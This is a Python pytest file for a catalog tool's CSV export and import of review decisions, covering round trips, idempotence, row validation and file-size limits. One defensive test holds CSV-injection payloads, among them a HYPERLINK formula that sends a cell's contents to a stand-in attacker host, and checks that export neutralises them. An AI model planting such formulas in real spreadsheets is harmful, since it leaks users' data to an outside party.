"""curate decisions export/import: CSV round trip, idempotence, all-or-nothing (issue 4)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from catalog import open_catalog
from catalog.reviews import record_decision
from curate.check import CheckOptions, check_images
from curate.cli import cli
from curate.review.sample import fill_sample_catalog


def checked_catalog(data_dir: Path) -> list[str]:
    """Six drawn images, judged ok by the real check; their sha256s in order."""
    with open_catalog(data_dir) as catalog:
        fill_sample_catalog(catalog, 6)
        check_images(catalog, CheckOptions(workers=1))
        return [r[0] for r in catalog.conn.execute("SELECT sha256 FROM images ORDER BY sha256")]


def invoke(data_dir: Path, *args: str):
    """Run ``curate decisions ...`` on ``data_dir``."""
    return CliRunner().invoke(cli, ["decisions", *args, "--data", str(data_dir)])


def in_force(data_dir: Path) -> dict[str, tuple[str, str | None]]:
    """sha256 -> (decision, note) in force."""
    with open_catalog(data_dir) as catalog:
        rows = catalog.conn.execute("SELECT sha256, decision, note FROM decisions")
        return {r[0]: (r[1], r[2]) for r in rows}


def review_count(data_dir: Path) -> int:
    """Rows in ``reviews``."""
    with open_catalog(data_dir) as catalog:
        return catalog.conn.execute("SELECT count(*) FROM reviews").fetchone()[0]


@pytest.fixture
def shas(data_dir: Path) -> list[str]:
    """The checked sample catalog in ``data_dir``."""
    return checked_catalog(data_dir)


def test_export_then_import_round_trips_and_reimport_changes_nothing(tmp_path, data_dir, shas):
    with open_catalog(data_dir) as catalog:
        record_decision(catalog, shas[0], "accept", note="round, one tier")
        record_decision(catalog, shas[1], "reject")
        record_decision(catalog, shas[2], "skip")
    out = tmp_path / "decisions.csv"
    result = invoke(data_dir, "export", str(out))
    assert result.exit_code == 0, result.output
    assert "Wrote 3 decisions" in result.output
    rows = list(csv.reader(out.open()))
    assert rows[0] == ["sha256", "decision", "note"]
    assert rows[1:] == sorted([
        [shas[0], "accept", "round, one tier"], [shas[1], "reject", ""], [shas[2], "skip", ""],
    ])

    other = tmp_path / "other"
    assert checked_catalog(other) == shas  # same drawings, same hashes
    result = invoke(other, "import", str(out))
    assert result.exit_code == 0, result.output
    assert "3 recorded, 0 already in force" in result.output
    assert in_force(other) == in_force(data_dir)

    result = invoke(other, "import", str(out))
    assert result.exit_code == 0, result.output
    assert "0 recorded, 3 already in force" in result.output
    assert review_count(other) == 3


def test_import_records_only_what_changed(tmp_path, data_dir, shas):
    with open_catalog(data_dir) as catalog:
        record_decision(catalog, shas[0], "accept")
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(f"sha256,decision,note\n{shas[0]},accept,\n{shas[1]},REJECT,two tiers\n")
    result = invoke(data_dir, "import", str(sheet))
    assert result.exit_code == 0, result.output
    assert in_force(data_dir) == {shas[0]: ("accept", None), shas[1]: ("reject", "two tiers")}
    assert review_count(data_dir) == 2


def test_bad_rows_are_listed_by_line_and_nothing_is_imported(tmp_path, data_dir, shas):
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(
        "sha256,decision,note\n"
        f"{shas[0]},accept,fine\n"
        f"{'f' * 64},accept,\n"
        f"{shas[1]},maybe,\n"
        f"{shas[0]},reject,\n"
    )
    result = invoke(data_dir, "import", str(sheet))
    assert result.exit_code == 1, result.output
    assert result.output.count("\n") == 1 and result.output.startswith("Error: sheet.csv:")
    assert "line 3: unknown sha256 ffffffffffffffff" in result.output
    assert "line 4: bad decision 'maybe'" in result.output
    assert "line 5:" in result.output and "repeats line 2" in result.output
    assert "line 2:" not in result.output
    assert review_count(data_dir) == 0


@pytest.mark.parametrize(
    "content, message",
    [
        ("{sha},accept,\n", "sheet.csv line 1: header is"),
        ("", "header is missing"),
        ("sha256,verdict\n{sha},accept\n", "the first line must be sha256,decision,note"),
        ("sha256,decision,note\n{sha},accept,round, one tier\n", "line 2: 4 columns"),
    ],
)
def test_malformed_csv_is_one_error_line(tmp_path, data_dir, shas, content, message):
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(content.format(sha=shas[0]))
    result = invoke(data_dir, "import", str(sheet))
    assert result.exit_code == 1, result.output
    assert result.output.startswith("Error: ") and message in result.output
    assert "Traceback" not in result.output
    assert review_count(data_dir) == 0


def test_export_without_a_catalog_is_an_error(tmp_path):
    result = invoke(tmp_path / "nowhere", "export", str(tmp_path / "x.csv"))
    assert result.exit_code == 1, result.output
    assert result.output.startswith("Error: no catalog at")
    assert not (tmp_path / "x.csv").exists()


@pytest.mark.parametrize("command", [["decisions"], ["decisions", "export"],
                                     ["decisions", "import"], ["review"]])
def test_commands_have_help(command):
    result = CliRunner().invoke(cli, [*command, "--help"])
    assert result.exit_code == 0, result.output
    assert len(result.output.splitlines()) > 4


def test_export_neutralises_formulas_in_notes_and_reimport_restores_them(tmp_path, data_dir, shas):
    """Notes starting with = + - @ would run as formulas in a spreadsheet (CSV injection)."""
    notes = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2+3", "@SUM(A1)", "fine"]
    with open_catalog(data_dir) as catalog:
        for sha, note in zip(shas, notes, strict=False):
            record_decision(catalog, sha, "accept", note=note)
    out = tmp_path / "decisions.csv"
    assert invoke(data_dir, "export", str(out)).exit_code == 0
    cells = {row[0]: row[2] for row in list(csv.reader(out.open()))[1:]}
    for sha, note in zip(shas, notes, strict=False):
        assert cells[sha] == (note if note == "fine" else "'" + note)
        assert not cells[sha].startswith(("=", "+", "-", "@"))

    result = invoke(data_dir, "import", str(out))
    assert result.exit_code == 0, result.output
    assert "0 recorded, 5 already in force" in result.output
    other = tmp_path / "other"
    checked_catalog(other)
    assert invoke(other, "import", str(out)).exit_code == 0
    assert in_force(other) == in_force(data_dir)


def test_a_cell_over_the_csv_field_limit_is_one_error_line(tmp_path, data_dir, shas):
    sheet = tmp_path / "sheet.csv"
    note = "x" * (csv.field_size_limit() + 1)
    sheet.write_text(f"sha256,decision,note\n{shas[0]},accept,{note}\n")
    result = invoke(data_dir, "import", str(sheet))
    assert result.exit_code == 1, result.output
    assert result.output.startswith("Error: sheet.csv line 2:") and "field larger" in result.output
    assert review_count(data_dir) == 0


def test_a_file_too_large_to_be_decisions_is_refused_unread(tmp_path, data_dir, shas):
    from curate.decisions import MAX_FILE_BYTES

    sheet = tmp_path / "huge.csv"
    with sheet.open("wb") as handle:  # sparse: no disk used
        handle.truncate(MAX_FILE_BYTES + 1)
    result = invoke(data_dir, "import", str(sheet))
    assert result.exit_code == 1, result.output
    assert result.output.startswith("Error: huge.csv is ") and "limit" in result.output
    assert review_count(data_dir) == 0
